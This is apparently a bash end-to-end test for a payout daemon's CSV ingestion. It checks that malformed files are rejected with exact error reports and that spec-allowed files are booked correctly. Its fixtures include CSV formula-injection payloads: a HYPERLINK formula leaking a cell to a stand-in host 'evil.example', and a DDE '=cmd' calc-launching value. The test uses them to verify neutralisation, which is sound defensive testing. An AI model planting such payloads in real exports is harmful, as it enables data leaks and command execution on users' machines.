#!/usr/bin/env bash
# hostile_csv: the CSV content cases of the hostile input catalogue (issue 5,
# docs/hostile-inputs.md). Each bad file is rejected whole: it moves to
# rejected/ with NAME.errors.txt naming file, line, column (and the value
# where there is one), the rejection is in the ledger, the audit log and the
# daemon's log, and the booked content of the ledger stays byte for byte the
# same. Inputs the SPEC accepts (a UTF-8 byte order mark, CRLF and LF mixed,
# spaces around quoted fields, a header without rows, a leap day) are booked
# exactly. Formula-like values are data: stored as given, and neutralised in
# payouts.csv, the one CSV payoutd writes. Every run is timed and its peak
# memory measured (/usr/bin/time), with bounds.
#
# Cases ingest_bad.sh already covers (1,23E+05, €12, (12.50), 12.50-, three
# decimals, 20 digits, 2026-02-30, an unterminated quote at the end, "a"b, a
# NUL byte in a field, invalid UTF-8 in a field, one field too many, a missing
# and a duplicate header) are not repeated here.
source "$(dirname "$0")/lib.sh"

# ---- bounds --------------------------------------------------------------------
# A sanitizer build is slower and needs more memory (shadow memory, redzones);
# under valgrind (PAYOUTD_VALGRIND, tests/tools/valgrind-wrap.sh) the peak RSS
# is valgrind's own and is not checked, and times scale with E2E_TIME_SCALE.
SAN=0
grep -aq -e __asan_init -e __ubsan_handle "$PAYOUTD" && SAN=1
VG=0
[[ -n ${PAYOUTD_VALGRIND:-} ]] && VG=1
MAX_RSS_KIB=$((VG ? 0 : SAN ? 800 * 1024 : 200 * 1024)) # 0: not checked
MAX_SECS=$((SAN ? 120 : 30 * ${E2E_TIME_SCALE:-1}))
[[ -x /usr/bin/time ]] || fail "/usr/bin/time is needed (Debian package time, see scripts/install-deps.sh)"

# measured_once EXPECTED_RC WHAT: payoutd --once under /usr/bin/time and
# timeout; fails unless it exits EXPECTED_RC within MAX_SECS with a peak RSS
# below MAX_RSS_KIB. Sets RSS_KIB and SECS (wall, whole seconds rounded up).
measured_once() {
	local want=$1 what=$2 rc t0 t1
	t0=$(date +%s%N)
	set +e
	/usr/bin/time -f %M -o "$T/rss.txt" timeout "$MAX_SECS" "$PAYOUTD" -c "$CONF" --once 2>"$LOG"
	rc=$?
	set -e
	t1=$(date +%s%N)
	SECS=$(((t1 - t0 + 999999999) / 1000000000))
	[[ $rc -ne 124 ]] || fail "$what: payoutd --once took longer than $MAX_SECS s"
	[[ $rc -eq $want ]] || fail "$what: payoutd --once exited $rc, expected $want"
	RSS_KIB=$(tail -n 1 "$T/rss.txt")
	[[ $RSS_KIB =~ ^[0-9]+$ ]] || fail "$what: no peak RSS from /usr/bin/time: $(cat "$T/rss.txt")"
	((MAX_RSS_KIB == 0 || RSS_KIB < MAX_RSS_KIB)) || fail "$what: peak RSS $RSS_KIB KiB, bound $MAX_RSS_KIB KiB"
	echo "$what: ${SECS}s, peak RSS $RSS_KIB KiB"
}

write_config
book_base
drop sales-base.csv <<'EOF'
sale_id,distributor_id,date,amount,sku
S1,A1,2026-11-03,50.00,SKIN-01
EOF
run_once

# ==== 1. rejected: every file below books nothing ==================================
NAMES=()
declare -A EXPECT=()
# expect NAME TEXT...: NAME must be rejected, its report holding every TEXT
# (the first TEXT names file, line and column: NAME:LINE:COL:).
expect() {
	local name=$1
	shift
	NAMES+=("$name")
	EXPECT[$name]=$(printf '%s\n' "$name was rejected at " "$@")
}
# put NAME FORMAT [ARGS...]: printf's exact bytes into inbox/NAME (via a dot name).
put() {
	local name=$1
	shift
	# shellcheck disable=SC2059
	printf "$@" >"$INBOX/.$name.writing"
	mv "$INBOX/.$name.writing" "$INBOX/$name"
}
H=sale_id,distributor_id,date,amount
AH='(expected a decimal like 1234.50, at most 2 decimals)'
DH='(expected a date as %Y-%m-%d or an ISO 8601 date-time)'

# ---- quoting ------------------------------------------------------------------------
put sales-quote-in-field.csv '%s\n' "$H" 'X1,A"1,2026-11-03,1.00'
expect sales-quote-in-field.csv \
	'sales-quote-in-field.csv:2:1: malformed CSV quoting in the row starting at line 2 (a quote inside an unquoted field, or text after a closing quote)'
# a quote opened in line 2 and never closed, with 1.4 MB of good rows after it:
# refused when the row passes 1 MiB, not after reading the rest into memory
{
	echo "$H"
	echo 'X1,A1,2026-11-03,"1.00'
	for ((i = 0; i < 55000; i++)); do echo "R$i,A1,2026-11-03,1.00"; done
} | drop sales-runaway-quote.csv
expect sales-runaway-quote.csv \
	'sales-runaway-quote.csv:2:1: the row starting here is longer than 1048576 bytes (an unterminated quote?)'

# ---- NUL bytes ---------------------------------------------------------------------------
put sales-nul-header.csv 'sale_id,distributor_id,date\0,amount\nX1,A1,2026-11-03,1.00\n'
expect sales-nul-header.csv 'sales-nul-header.csv:1:1: required column "date" is missing from the header'
# a preallocated file nobody wrote (fallocate, a crash before the data): NUL bytes only
head -c 4096 /dev/zero | drop sales-all-nul.csv
expect sales-all-nul.csv 'sales-all-nul.csv:1:1: required column "sale_id" is missing from the header'
put sales-nul-quoted.csv '%s\nX1,"A\0 1",2026-11-03,1.00\n' "$H"
expect sales-nul-quoted.csv 'sales-nul-quoted.csv:2:2: column "distributor_id": value "A\x00 1": contains a NUL byte'

# ---- byte order marks (a BOM at the start is accepted: section 2) -------------------------
put sales-bom-only.csv '\xef\xbb\xbf'
expect sales-bom-only.csv 'sales-bom-only.csv:1:1: the file is empty: a header line is required'
put sales-bom-twice.csv '\xef\xbb\xbf\xef\xbb\xbf%s\nX1,A1,2026-11-03,1.00\n' "$H"
expect sales-bom-twice.csv 'sales-bom-twice.csv:1:1: required column "sale_id" is missing from the header'
put sales-bom-cut.csv '\xef\xbb'
expect sales-bom-cut.csv 'sales-bom-cut.csv:1:1: required column "sale_id" is missing from the header'

# ---- invalid UTF-8 and wrong encodings ---------------------------------------------------
put sales-utf8-overlong.csv '%s,sku\nX1,A1,2026-11-03,1.00,\xc0\xaf\n' "$H"
expect sales-utf8-overlong.csv \
	'sales-utf8-overlong.csv:2:5: column "sku": value "\xC0\xAF": not valid UTF-8 (check the input'"'"'s encoding)'
put sales-utf8-surrogate.csv '%s,sku\nX1,A1,2026-11-03,1.00,\xed\xa0\x80\n' "$H"
expect sales-utf8-surrogate.csv \
	'sales-utf8-surrogate.csv:2:5: column "sku": value "\xED\xA0\x80": not valid UTF-8'
put sales-utf8-too-big.csv '%s,sku\nX1,A1,2026-11-03,1.00,\xf4\x90\x80\x80\n' "$H"
expect sales-utf8-too-big.csv \
	'sales-utf8-too-big.csv:2:5: column "sku": value "\xF4\x90\x80\x80": not valid UTF-8'
# cut inside a character at the very end of the file (no final newline)
put sales-utf8-cut.csv '%s,sku\nX1,A1,2026-11-03,1.00,ab\xe2\x82' "$H"
expect sales-utf8-cut.csv 'sales-utf8-cut.csv:2:5: column "sku": value "ab\xE2\x82": not valid UTF-8'
# a Latin-1 export read as UTF-8 (the default encoding)
put distributors-latin1.csv 'distributor_id,sponsor_id,name,join_date\nL1,A1,M\xfcller,2026-01-01\n'
expect distributors-latin1.csv \
	'distributors-latin1.csv:2:3: column "name": value "M\xFCller": not valid UTF-8 (check the input'"'"'s encoding)'
# Excel's "Unicode text": UTF-16LE with its BOM
printf '%s\n%s\n' "$H" 'X1,A1,2026-11-03,1.00' | iconv -f UTF-8 -t UTF-16 | drop sales-utf16.csv
expect sales-utf16.csv 'sales-utf16.csv:1:1: required column "sale_id" is missing from the header'

# ---- field counts and headers ---------------------------------------------------------------
put sales-fields-missing.csv '%s\n' "$H" 'X0,A1,2026-11-03,1.00' 'X1,A1,2026-11-03'
expect sales-fields-missing.csv 'sales-fields-missing.csv:3:1: expected 4 fields as in the header, found 3'
{
	echo "$H"
	printf 'X1,A1,2026-11-03,1.00'
	printf ',x%.0s' {1..296}
	echo
} | drop sales-300-fields.csv
expect sales-300-fields.csv 'sales-300-fields.csv:2:1: expected 4 fields as in the header, found 300'
{
	printf '%s' "$H"
	printf ',c%d' {1..296}
	echo
	echo 'X1,A1,2026-11-03,1.00'
} | drop sales-300-columns.csv
expect sales-300-columns.csv 'sales-300-columns.csv:1:1: the header has more than 256 columns'
put sales-no-header.csv '%s\n' 'X1,A1,2026-11-03,1.00'
expect sales-no-header.csv 'sales-no-header.csv:1:1: required column "sale_id" is missing from the header'
put sales-header-case.csv '%s\n' 'SALE_ID,distributor_id,date,amount' 'X1,A1,2026-11-03,1.00'
expect sales-header-case.csv 'sales-header-case.csv:1:1: required column "sale_id" is missing from the header'
put sales-header-semicolons.csv '%s\n' 'sale_id;distributor_id;date;amount' 'X1,A1,2026-11-03,1.00'
expect sales-header-semicolons.csv 'sales-header-semicolons.csv:2:1: expected 4 fields as in the header, found 1'
put distributors-dup-header.csv '%s\n' 'distributor_id,name,sponsor_id,join_date,name' 'C1,One,A1,2026-01-01,Two'
expect distributors-dup-header.csv \
	'distributors-dup-header.csv:1:5: column "name" appears twice in the header (also column 2)'

# ---- line ends: LF and CRLF may mix; a lone CR may not ---------------------------------------
put sales-cr-only.csv '%s\rX1,A1,2026-11-03,1.00\rX2,A1,2026-11-03,2.00\r' "$H"
expect sales-cr-only.csv \
	'sales-cr-only.csv:1:35: a carriage return without a line feed (old Mac line ends?): save the file with LF or CRLF line ends'
put sales-cr-cr-lf.csv '%s\nX1,A1,2026-11-03,1.00\r\rX2,A1,2026-11-03,2.00\n' "$H"
expect sales-cr-cr-lf.csv \
	'sales-cr-cr-lf.csv:2:22: a carriage return without a line feed (old Mac line ends?)'
# a line break inside a quoted id
put sales-crlf-in-id.csv '%s\n"X1\r\nb",A1,2026-11-03,1.00\n' "$H"
expect sales-crlf-in-id.csv \
	'sales-crlf-in-id.csv:2:1: column "sale_id": value "X1\x0D\x0Ab": contains a control character'

# ---- numbers in the wrong format (beyond ingest_bad.sh) -------------------------------------
n=0
bad_amount() { # VALUE REASON
	n=$((n + 1))
	local name="sales-amount-$n.csv"
	printf '%s\n' "$H" "X$n,A1,2026-11-03,$1" | drop "$name"
	expect "$name" "$name:2:4: column \"amount\": value \"$3\": $2 $AH"
}
bad_amount '"1.23E+05"' 'exponent not allowed' '1.23E+05'
bad_amount '1e3' 'exponent not allowed' '1e3'
bad_amount '.5' 'a digit must come before the decimal separator' '.5'
bad_amount '5.' 'a digit must follow the decimal separator' '5.'
bad_amount '1 234.50' 'spaces not allowed' '1 234.50'
bad_amount '12 EUR' 'spaces not allowed' '12 EUR'
bad_amount '$12' 'currency signs not allowed' '$12'
bad_amount '12%' 'percent sign not allowed' '12%'
bad_amount '0x10' 'not a number' '0x10'
bad_amount 'NaN' 'not a number' 'NaN'
bad_amount 'Infinity' 'not a number' 'Infinity'
bad_amount '--5' "a sign must be a leading '-'" '--5'
bad_amount '- 5' 'spaces not allowed' '- 5'
bad_amount '12.5.0' 'more than one decimal separator' '12.5.0'
bad_amount '０１２' 'not a number' '０１２'
bad_amount '١٢' 'not a number' '١٢'
bad_amount $'12.50\xc2\xa0' 'spaces not allowed' $'12.50\xc2\xa0'
# one cent over the largest amount the ledger holds (int64 cents)
bad_amount '92233720368547758.08' 'value too large' '92233720368547758.08'
put sales-volumes.csv '%s\n' "$H,quantity,pv,cv" 'X1,A1,2026-11-03,12.50,1.5,1e3,-' \
	'X2,A1,2026-11-03,12.50,0,,' 'X3,A1,2026-11-03,12.50,99999999999999999999,,'
expect sales-volumes.csv \
	'sales-volumes.csv:2:5: column "quantity": value "1.5": expected a whole number from 1 to 1000000' \
	"sales-volumes.csv:2:6: column \"pv\": value \"1e3\": exponent not allowed $AH" \
	"sales-volumes.csv:2:7: column \"cv\": value \"-\": not a number $AH" \
	'sales-volumes.csv:3:5: column "quantity": value "0": expected a whole number from 1 to 1000000' \
	'sales-volumes.csv:4:5: column "quantity": value "99999999999999999999": expected a whole number from 1 to 1000000'

# ---- impossible dates (beyond 2026-02-30) -----------------------------------------------------
n=0
bad_date() { # VALUE REASON
	n=$((n + 1))
	local name="sales-date-$n.csv"
	printf '%s\n' "$H" "X$n,A1,$1,1.00" | drop "$name"
	expect "$name" "$name:2:3: column \"date\": value \"$1\": $2 $DH"
}
bad_date 2026-13-01 'no such month'
bad_date 2026-00-10 'no such month'
bad_date 2025-02-29 'no such day in that month'
bad_date 2026-11-31 'no such day in that month'
bad_date 2026-11-00 'no such day in that month'
bad_date 0000-01-01 'year out of range (1900..9999)'
bad_date 10000-01-01 'does not match the date format'
bad_date -2026-01-01 'expected a 4-digit year'
bad_date 2026/11/03 'does not match the date format'
bad_date 03.11.2026 'expected a 4-digit year'
bad_date 20261103 'does not match the date format'
bad_date 2026-W45-1 'expected a month'
bad_date 2026-11-03x 'unexpected characters after the date'
bad_date 2026-11-03T25:00:00+01:00 'no such time of day'
bad_date 2026-11-03T23:59:60Z 'no such time of day'
bad_date 2026-11-03T10:00:00+25:00 'offset out of range'
put distributors-join-date.csv '%s\n' 'distributor_id,sponsor_id,name,join_date' 'J1,A1,Jo,2026-02-29' 'J2,A1,Jay,2026-04-31'
expect distributors-join-date.csv \
	"distributors-join-date.csv:2:4: column \"join_date\": value \"2026-02-29\": no such day in that month $DH" \
	"distributors-join-date.csv:3:4: column \"join_date\": value \"2026-04-31\": no such day in that month $DH"

# ---- one run rejects them all and books nothing -------------------------------------------------
before=$(ledger_dump)
files_before=$(q 'SELECT count(*) FROM files')
sales_before=$(q 'SELECT count(*) FROM sales')
rej_before=$(q 'SELECT count(*) FROM rejections')
measured_once 0 "${#NAMES[@]} hostile CSV files"
[[ $before == "$(ledger_dump)" ]] || fail "the ledger changed although every file was rejected:
$(diff <(echo "$before") <(ledger_dump) || true)"
assert_eq "$files_before" "$(q 'SELECT count(*) FROM files')" "files booked"
assert_eq "$sales_before" "$(q 'SELECT count(*) FROM sales')" "sales booked"
assert_eq "$((rej_before + ${#NAMES[@]}))" "$(q 'SELECT count(*) FROM rejections')" "rejections recorded"
assert_inbox_idle
for name in "${NAMES[@]}"; do
	mapfile -t texts <<<"${EXPECT[$name]}"
	assert_rejected "$name" "${texts[@]}"
	# the first error line of every report is FILE:LINE:COLUMN: ...
	grep -qE "^${name//./\\.}:[0-9]+:[0-9]+: " "$REJECTED/$name.errors.txt" ||
		fail "errors of $name: no line FILE:LINE:COLUMN: $(cat "$REJECTED/$name.errors.txt")"
	iconv -f UTF-8 -t UTF-8 "$REJECTED/$name.errors.txt" >/dev/null 2>&1 ||
		fail "$name.errors.txt is not valid UTF-8: $(cat -v "$REJECTED/$name.errors.txt")"
	assert_contains "$AUDIT" '"event":"file_rejected","name":"'"$name"'","sha256":"' "audit log"
	assert_contains "$LOG" "payoutd: $name: rejected: " "payoutd log"
done
assert_contains "$LOG" "inbox: 0 booked, ${#NAMES[@]} rejected, 0 left for a retry" "payoutd log"
audit_verify_ok

# ==== 2. accepted: what the SPEC allows is booked exactly =====================================
# a UTF-8 BOM (ignored, SPEC 3), then CRLF and LF mixed, the last line without a line end
put sales-bom-mixed.csv '\xef\xbb\xbf%s\r\nB1,A1,2026-11-03,1.00\nB2,A1,2026-11-04,2.00\r\nB3,A1,2026-11-05,3.00' "$H"
# spaces around quoted fields and header names are trimmed; blank lines are skipped
put sales-spaces.csv ' sale_id , distributor_id,date,amount\n\n "Q1",A1,"2026-11-03","4.00" \n"Q2" ,A1,2026-11-03,5.00\n\n'
# a header and no rows: a file of nothing
put sales-header-only.csv '%s\n' "$H"
# extra columns are ignored, an empty or repeated one too
put sales-extra-columns.csv '%s\n' 'sale_id,,distributor_id,date,amount,note,note' 'E1,,A1,2026-11-03,6.00,a,b'
# 29 February of a leap year; a date-time with an offset in the plan's time zone
put sales-dates-ok.csv '%s\n' "$H" 'D1,A1,2028-02-29,7.00' 'D2,A1,2026-11-30T23:30:00-01:00,8.00'
# formula-like values are data (section 3 of docs/hostile-inputs.md): stored as they are
put distributors-formula.csv '%s\n' 'distributor_id,sponsor_id,name,join_date,iban' \
	'F1,,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",2025-01-01,DE89370400440532013000' \
	'F2,F1,+SUM(1;2),2025-01-01,=1+1' \
	'F3,F1,-2+3 <b>bold</b>,2025-01-01,@SUM(A1)' \
	$'F4,F1, \t=cmd|\' /C calc\'!A0,2025-01-01,'
put sales-formula.csv '%s\n' "$H" '=1+1,F1,2026-11-03,100.00' 'F2-1,F2,2026-11-03,100.00' \
	'F3-1,F3,2026-11-03,100.00' 'F4-1,F4,2026-11-03,100.00'
measured_once 0 "accepted hostile-looking CSV files"
assert_eq "" "$(ls -A "$REJECTED" | grep -vF -f <(printf '%s\n' "${NAMES[@]}") || true)" "new files in rejected/"
assert_contains "$LOG" "inbox: 7 booked, 0 rejected, 0 left for a retry" "payoutd log"
assert_inbox_idle
# sale_id|distributor|day|amount
assert_eq "B1|A1|$(day 2026-11-03)|100
B2|A1|$(day 2026-11-04)|200
B3|A1|$(day 2026-11-05)|300
D1|A1|$(day 2028-02-29)|700
D2|A1|$(day 2026-12-01)|800
E1|A1|$(day 2026-11-03)|600
Q1|A1|$(day 2026-11-03)|400
Q2|A1|$(day 2026-11-03)|500" \
	"$(q "SELECT sale_id, distributor_id, day, amount FROM sales WHERE sale_id GLOB '[BDEQ][0-9]' ORDER BY sale_id")" \
	"sales of the accepted files"
assert_eq "3|3" "$(q "SELECT rows, sales FROM files WHERE name = 'sales-bom-mixed.csv'")" "rows of the BOM + mixed line ends file"
assert_eq "0|0" "$(q "SELECT rows, sales FROM files WHERE name = 'sales-header-only.csv'")" "rows of the header-only file"
assert_eq "F1|=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")|DE89370400440532013000
F2|+SUM(1;2)|=1+1
F3|-2+3 <b>bold</b>|@SUM(A1)
F4|=cmd|' /C calc'!A0|" \
	"$(q "SELECT id, name, coalesce(iban, '') FROM distributors WHERE id GLOB 'F*' ORDER BY id")" \
	"formula-like names and IBANs, stored as given"
assert_eq "1" "$(q "SELECT count(*) FROM sales WHERE sale_id = '=1+1'")" "a formula-like sale_id"

# ---- neutralised in payouts.csv (SPEC 11.21: UTF-8, RFC 4180, LF) ---------------------------
# B1, B2 sold in November too; A1 gets its own line: only F* lines are checked
close_ok 2026-11
payouts=$STATEMENTS/2026-11/payouts.csv
assert_eq "distributor_id,name,iban,currency,amount
F1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\",DE89370400440532013000,EUR,33.50
F2,'+SUM(1;2),'=1+1,EUR,18.50
F3,'-2+3 <b>bold</b>,'@SUM(A1),EUR,18.50
F4,'=cmd|' /C calc'!A0,,EUR,18.50" "$(grep -E '^(distributor_id|F[0-9]),' "$payouts")" "payouts.csv"
# no field of any line starts with a formula character, quoted or not
if grep -nE '(^|,)"?[=+@-]' "$payouts" >"$T/formula.txt"; then
	fail "payouts.csv has a field starting with = + - @: $(cat "$T/formula.txt")"
fi
# the HTML statement shows the name as text
assert_contains "$STATEMENTS/2026-11/F3.html" '-2+3 &lt;b&gt;bold&lt;/b&gt;' "F3.html"
assert_not_contains "$STATEMENTS/2026-11/F3.html" '<b>bold</b>' "F3.html"
audit_verify_ok
pass
